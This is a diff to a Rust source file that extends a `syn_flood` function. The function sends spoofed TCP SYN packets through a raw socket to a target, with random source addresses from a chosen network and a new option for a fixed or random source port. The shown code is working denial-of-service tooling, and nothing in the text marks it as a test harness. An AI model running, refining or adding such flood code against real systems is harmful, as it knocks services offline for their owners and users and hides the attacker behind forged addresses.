@@ -64,13 +64,15 @@ pub fn syn_packet(src: Ipv4Addr, sport: u16, dst: SocketAddrV4, seq: u32) -> [u8
     p
 }
 
-/// Sends `count` spoofed SYNs to `target` from random addresses of `source_net`, spread
-/// evenly over `duration`; returns how many the kernel took.
+/// Sends `count` spoofed SYNs to `target` from random addresses of `source_net` (from
+/// `source_port`, or random ports when 0), spread evenly over `duration`; returns how
+/// many the kernel took.
 pub fn syn_flood(
     target: SocketAddrV4,
     count: usize,
     duration: Duration,
     source_net: &str,
+    source_port: u16,
 ) -> anyhow::Result<usize> {
     let (net, host_mask) = parse_net(source_net)?;
     // SAFETY: plain socket(2); IPPROTO_RAW implies IP_HDRINCL.
@@ -99,7 +101,10 @@ pub fn syn_flood(
     for i in 0..count {
         let r = next();
         let src = Ipv4Addr::from(net | (r as u32 & host_mask));
-        let sport = 1024 + ((r >> 32) as u16 % 60_000);
+        let sport = match source_port {
+            0 => 1024 + ((r >> 32) as u16 % 60_000),
+            p => p,
+        };
         let pkt = syn_packet(src, sport, target, (r >> 16) as u32);
         // SAFETY: the buffer and the address are valid for the call.
         let n = unsafe {
